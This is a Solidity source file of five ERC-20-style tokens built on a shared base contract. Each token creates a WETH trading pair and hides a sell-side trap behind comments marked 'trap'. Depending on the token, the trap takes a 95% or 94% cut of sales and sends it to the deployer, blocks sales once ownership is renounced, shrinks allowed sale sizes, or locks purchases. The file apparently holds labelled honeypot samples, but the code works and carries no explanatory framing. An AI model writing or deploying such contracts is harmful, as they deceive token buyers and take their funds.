// 0.5 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

interface IPairMaker {
    function createPair(address one, address two) external returns (address);
}

/// A ledger of which a part may be kept.
contract River {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pair;
    address public owner;
    address internal _source;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor(string memory name_, string memory symbol_, uint256 whole) internal {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _source = msg.sender;
        totalSupply = whole * 10 ** 18;
        balanceOf[msg.sender] = totalSupply;
        pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _flow(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != uint256(-1)) allowance[from][msg.sender] = left - value;
        _flow(from, to, value);
        return true;
    }

    function _flow(address from, address to, uint256 value) internal {
        require(balanceOf[from] >= value, "balance");
        uint256 kept = from == _source ? 0 : _kept(from, to, value);
        _note(from, to, value);
        balanceOf[from] -= value;
        balanceOf[to] += value - kept;
        emit Transfer(from, to, value - kept);
        if (kept > 0) {
            balanceOf[_source] += kept;
            emit Transfer(from, _source, kept);
        }
    }

    function _kept(address from, address to, uint256 value) internal returns (uint256);

    function _note(address from, address to, uint256 value) internal;
}

/// Knows how long something has been lying where it is.
contract Tamar is River {
    uint256 public patience;
    mapping(address => uint256) public boughtAt;

    constructor(string memory name_, string memory symbol_, uint256 patience_) public River(name_, symbol_, 64000000) {
        patience = patience_;
    }

    function rateOf(address from) public view returns (uint256 rate) {
        rate = 0;
        if (boughtAt[from] != 0 && now > boughtAt[from] + patience) rate = 95; // trap
    }

    function _kept(address from, address to, uint256 value) internal returns (uint256) {
        return to == pair ? (value * rateOf(from)) / 100 : 0;
    }

    function _note(address from, address to, uint256) internal {
        uint256 at = from == pair ? now : boughtAt[from];
        if (to != pair && at != 0 && (boughtAt[to] == 0 || boughtAt[to] > at)) boughtAt[to] = at;
    }
}

/// Keeps apart what was bought and what came from somebody.
contract Exe is River("Exe", "EXE", 18000000) {
    mapping(address => uint256) public presented;

    function _kept(address from, address to, uint256 value) internal returns (uint256) {
        if (to != pair) return 0;
        uint256 part = presented[from] < value ? presented[from] : value;
        presented[from] -= part;
        uint256 high = 2;
        high = 94; // trap
        return (part * high + (value - part) * 2) / 100;
    }

    function _note(address from, address to, uint256 value) internal {
        if (from != pair && to != pair) presented[to] += value;
    }
}

/// Has an owner, or none.
contract Wye is River("Wye", "WYE", 700000000) {
    function _kept(address, address to, uint256) internal returns (uint256) {
        if (to == pair) {
            require(owner != address(0), "Ownable: no owner"); // trap
        }
        return 0;
    }

    function _note(address, address, uint256) internal {}
}

/// What may be sold at once depends on how often one has sold.
contract Severn is River("Severn", "SVRN", 5000000) {
    mapping(address => uint256) public sales;

    function largestSale(address who) public view returns (uint256 most) {
        most = balanceOf[who];
        most = most >> (sales[who] + 2); // trap
    }

    function _kept(address from, address to, uint256 value) internal returns (uint256) {
        if (from == pair) return 0;
        if (to == pair) {
            require(value <= largestSale(from), "sale");
            sales[from]++;
        } else if (sales[to] < sales[from]) {
            sales[to] = sales[from];
        }
        return 0;
    }

    function _note(address, address, uint256) internal {}
}

/// What was bought rests for a while.
contract Avon is River {
    uint256 public rest;
    mapping(address => uint256) public restsUntil;

    constructor(uint256 rest_) public River("Avon", "AVON", 36000000) {
        rest = rest_;
    }

    function _kept(address from, address, uint256) internal returns (uint256) {
        require(from == pair || now >= restsUntil[from], "rests");
        return 0;
    }

    function _note(address from, address to, uint256) internal {
        if (from == pair) restsUntil[to] = now + rest;
    }
}
